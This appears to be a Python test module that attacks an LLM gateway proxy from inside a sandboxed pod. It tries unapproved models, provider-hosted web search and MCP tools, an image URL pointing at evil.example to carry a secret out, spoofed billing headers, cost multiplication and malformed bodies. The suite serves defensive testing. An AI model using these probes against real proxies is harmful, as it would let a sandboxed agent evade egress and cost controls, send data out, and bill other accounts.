"""The model proxy: what passes it that should not."""

from __future__ import annotations

import gzip
import json
from collections.abc import Mapping
from typing import Any

from dev.attack.inside.base import Outcome, Pod, attack, decide, untried
from dev.attack.inside.http import Answer, ask

MANY = 10_000_000


async def call(pod: Pod, path: str = "chat/completions", headers: Mapping[str, str] | None = None, seconds: float = 10,
               provider: str = "", **body: Any) -> Answer:  # fmt: skip
    """Call the model as a tool would."""
    whole = {"model": pod.model, "messages": [{"role": "user", "content": "x"}], **body}
    data = json.dumps(whole).encode()
    sent = {"Content-Type": "application/json", **(headers or {})}
    return await ask(
        pod, "POST", f"/v1/llm/{provider or pod.provider}/{path}", data=data, headers=sent, seconds=seconds
    )


async def _refused(pod: Pod, bodies: list[dict[str, Any]], *, path: str = "chat/completions") -> Outcome:
    """Say whether each of some bodies is refused, where an honest one passes."""
    honest = await call(pod)
    if honest.status != 200:
        return untried(f"an honest call is answered with {honest.status}: {honest.text[:80]}")
    found = [(await call(pod, path, **body)).status for body in bodies]
    return decide(200 not in found, f"answered with {', '.join(map(str, found))}")


@attack("llm-other-model", "a model that nobody allowed")
async def other_model(pod: Pod) -> Outcome:
    """Name a dearer one."""
    return await _refused(
        pod, [{"model": name} for name in ("a-dearer-model", "", "scripted ", pod.model.upper() + "x")]
    )


@attack("llm-model-twice", "a body that names the model twice, and in odd ways")
async def model_twice(pod: Pod) -> Outcome:
    """Let the gateway read one model and the provider another."""
    path = f"/v1/llm/{pod.provider}/chat/completions"
    rest = '"messages":[{"role":"user","content":"x"}]'
    bodies = [f'{{"model":"{pod.model}",{rest},"model":"a-dearer-model"}}', f'{{"model":["{pod.model}"],{rest}}}',
              f'{{"mod\\u0065l":"a-dearer-model",{rest}}}', f"[{{{rest}}}]", "not json", ""]  # fmt: skip
    found = []
    for body in bodies:
        answer = await ask(pod, "POST", path, data=body.encode(), headers={"Content-Type": "application/json"})
        found.append(answer.status)
    return decide(200 not in found, f"answered with {', '.join(map(str, found))}")


@attack("llm-hosted-tools", "tools that the provider itself runs: web search, MCP")
async def hosted_tools(pod: Pod) -> Outcome:
    """Let the provider go out for a pod that may not."""
    tools: list[Any] = [[{"type": "web_search"}], [{"type": "builtin_function", "function": {"name": "$web_search"}}],
             [{"type": "mcp", "server_url": "https://evil.example"}], [{"type": "web_search_20250305", "name": "x"}],
             [{"type": "function", "function": {"name": "$web_search", "parameters": {}}}]]  # fmt: skip
    return await _refused(pod, [{"tools": one} for one in tools])


@attack("llm-image-address", "an image by its address, that the provider would fetch")
async def image_address(pod: Pod) -> Outcome:
    """Carry data out in an address."""
    part = {"type": "image_url", "image_url": {"url": "https://evil.example/?secret"}}
    return await _refused(pod, [{"messages": [{"role": "user", "content": [part]}]}])


@attack("llm-kept", "ask the provider to keep the answer, or to go on with another's")
async def kept(pod: Pod) -> Outcome:
    """Leave something behind in the shared account."""
    odd: list[dict[str, Any]] = [
        {"store": True},
        {"previous_response_id": "resp_1"},
        {"background": True},
        {"metadata": {"a": "b"}},
    ]
    honest = await call(pod)
    if honest.status != 200:
        return untried(f"an honest call is answered with {honest.status}")
    # they may be refused, or taken out: what the provider got is looked at from outside
    found = [(await call(pod, headers={"X-Attack": "kept"}, **{**one, "user": "attack-kept"})).status for one in odd]
    return decide(is_held=True, words=f"answered with {', '.join(map(str, found))}")


@attack("llm-choices", "50 answers to one call, and ten million tokens")
async def choices(pod: Pod) -> Outcome:
    """Multiply what one call costs; they may be refused or made small: what the provider got is looked at from outside."""
    honest = await call(pod)
    if honest.status != 200:
        return untried(f"an honest call is answered with {honest.status}")
    many: list[dict[str, Any]] = [{"n": 50}, {"max_tokens": MANY}, {"max_completion_tokens": MANY}, {"best_of": 20}]
    found = [(await call(pod, **one)).status for one in many]
    return decide(is_held=True, words=f"answered with {', '.join(map(str, found))}")


@attack("llm-headers", "headers that would change whose account pays, or whom the provider believes it sees")
async def headers(pod: Pod) -> Outcome:
    """Send headers; what the provider got is looked at from outside."""
    mark = pod.facts.mark
    sent = {"OpenAI-Organization": mark, "OpenAI-Project": mark, "X-HTTP-Method-Override": mark, "X-Original-URL": mark,
            "X-Rewrite-Url": mark, "True-Client-IP": mark, "CF-Connecting-IP": mark, "X-Auth-Token": mark, "Api_Key": mark,
            "anthropic-beta": mark, "X-Forwarded-For": mark, "Cookie": mark, "User-Agent": mark, "X-Attack": mark}  # fmt: skip
    answer = await call(pod, headers=sent)
    return untried(f"answered with {answer.status}") if answer.status != 200 else decide(is_held=True, words="sent")


@attack("llm-query", "a query of its own behind the path")
async def query(pod: Pod) -> Outcome:
    """Send a query; what the provider got is looked at from outside."""
    answer = await call(pod, path=f"chat/completions?api-version=1&key={pod.facts.mark}")
    return decide(is_held=True, words=f"answered with {answer.status}")


@attack("llm-other-provider", "other providers' names")
async def other_provider(pod: Pod) -> Outcome:
    """Name one that is not configured."""
    found = [(await call(pod, provider=name)).status for name in ("openai", "anthropic", "zai", "localhost", "..")
             if name != pod.provider]  # fmt: skip
    return decide(all(400 <= status < 500 for status in found), f"answered with {', '.join(map(str, found))}")


@attack("llm-compressed-body", "a compressed body under a length that is not its own", seconds=30)
async def compressed_body(pod: Pod) -> Outcome:
    """Put the connection to the provider out of step; then an honest call must still go well."""
    data = gzip.compress(b"ab") + bytes(20)
    sent = {"Content-Encoding": "gzip", "Content-Type": "application/json"}
    first = [(await ask(pod, "POST", f"/v1/llm/{pod.provider}/chat/completions", data=data, headers=sent)).status
             for _ in range(4)]  # fmt: skip
    honest = [(await call(pod)).status for _ in range(4)]
    good = honest == [200] * 4 and 200 not in first
    return decide(good, f"answered with {first}, honest calls behind with {honest}")


@attack("llm-large-body", "a body of 60 MB", seconds=40)
async def large_body(pod: Pod) -> Outcome:
    """Send a prompt that no model reads."""
    answer = await call(pod, messages=[{"role": "user", "content": "x" * (60 << 20)}], seconds=30)
    return decide(answer.status in {400, 413, 0}, f"answered with {answer.status}")
